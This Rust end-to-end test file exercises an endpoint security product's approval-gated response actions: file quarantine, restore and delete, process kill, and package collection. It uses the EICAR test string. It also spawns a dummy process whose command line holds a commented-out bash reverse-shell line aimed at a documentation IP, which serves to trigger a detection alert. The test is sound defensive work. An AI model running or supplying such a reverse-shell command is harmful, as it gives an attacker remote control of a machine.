//! Response end to end with real collector and agent processes: an analyst
//! proposes, an approver approves, the agent verifies the signed command, acts,
//! and its signed result shows in the API.

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use ward_tests::*;

const EICAR: &[u8] = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
const EICAR_SHA256: &str = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";

/// Proposes as `analyst`, approves as `approver`, waits for a final status.
async fn run_action(collector: &Collector, analyst: &str, approver: &str, device: &str, action: Value) -> Value {
    let (status, body) = collector
        .post_as(
            "/api/v1/actions",
            analyst,
            json!({"device_id": device, "action": action, "reason": "e2e"}),
        )
        .await
        .unwrap();
    assert_eq!(status, 201, "{body}");
    let id = body["id"].as_str().unwrap().to_string();
    let approved_at = Instant::now();
    let (status, body) = collector
        .post_as(
            &format!("/api/v1/actions/{id}/approve"),
            approver,
            json!({"comment": "go"}),
        )
        .await
        .unwrap();
    assert_eq!(status, 200, "{body}");
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let (_, a) = collector.get(&format!("/api/v1/actions/{id}")).await.unwrap();
        if ["succeeded", "failed", "refused"].contains(&a["status"].as_str().unwrap_or("")) {
            eprintln!("{} {} after {:?}", a["kind"], a["status"], approved_at.elapsed());
            return a;
        }
        assert!(Instant::now() < deadline, "action never finished: {a}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quarantine_restore_kill_and_package_on_a_real_agent() {
    let collector = Collector::start().unwrap();
    let agent = Agent::start(&collector).unwrap();
    agent.wait_connected(Duration::from_secs(15)).unwrap();
    let device = agent.device_id.clone();
    let ann = collector.user("ann", "analyst").unwrap();
    let bob = collector.user("bob", "approver").unwrap();

    // Quarantine the file an alert named, then restore it byte for byte.
    let target = agent.watch.join("dropper.bin");
    std::fs::write(&target, EICAR).unwrap();
    let alert = collector
        .wait_alert(&device, Duration::from_secs(5), |a| {
            a["entities"].to_string().contains(EICAR_SHA256)
        })
        .await
        .unwrap();
    let file = alert["entities"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "file")
        .unwrap()
        .clone();
    let done = run_action(
        &collector,
        &ann,
        &bob,
        &device,
        json!({"kind": "quarantine_file", "path": file["path"], "sha256": file["sha256"]}),
    )
    .await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert!(!target.exists(), "the file left its place");
    let record: Value = serde_json::from_str(done["result"]["detail"].as_str().unwrap()).unwrap();
    assert_eq!(record["sha256"], EICAR_SHA256);
    let quarantine_id = record["id"].as_str().expect("quarantine record id").to_string();

    let done = run_action(
        &collector,
        &ann,
        &bob,
        &device,
        json!({"kind": "restore_file", "quarantine_id": quarantine_id}),
    )
    .await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(std::fs::read(&target).unwrap(), EICAR);

    // A wrong hash is refused on the device: nothing happens to the file.
    let done = run_action(
        &collector,
        &ann,
        &bob,
        &device,
        json!({"kind": "delete_file", "path": target.display().to_string(), "sha256": "00".repeat(32)}),
    )
    .await;
    assert_eq!(done["status"], "failed", "{done}");
    assert!(target.exists());

    // Kill the process a reverse-shell alert named, bound to its pid, start time and exe.
    let mut victim = std::process::Command::new("/bin/sh")
        .args(["-c", "sleep 60 # bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])
        .spawn()
        .unwrap();
    let alert = collector
        .wait_alert(&device, Duration::from_secs(5), |a| {
            a["matched"].to_string().contains("198.51.100.7")
        })
        .await
        .unwrap();
    let process = alert["entities"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "process")
        .unwrap()
        .clone();
    assert_eq!(process["pid"], victim.id());
    let done = run_action(
        &collector,
        &ann,
        &bob,
        &device,
        json!({"kind": "kill_process", "pid": process["pid"], "start_time_ms": process["start_time_ms"],
               "exe": process["exe"], "tree": true}),
    )
    .await;
    assert_eq!(done["status"], "succeeded", "{done}");
    let exited = victim.wait().unwrap();
    assert!(!exited.success(), "killed by a signal");

    // An investigation package comes back and can be downloaded.
    let done = run_action(&collector, &ann, &bob, &device, json!({"kind": "collect_package"})).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    let id = done["id"].as_str().unwrap();
    let resp = ward_tests::http_client()
        .get(format!("http://{}/api/v1/actions/{id}/package", collector.http))
        .bearer_auth(&collector.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let package: Value = serde_json::from_slice(&resp.bytes().await.unwrap()).unwrap();
    assert!(package.to_string().contains("sleep") || package.is_object());
}
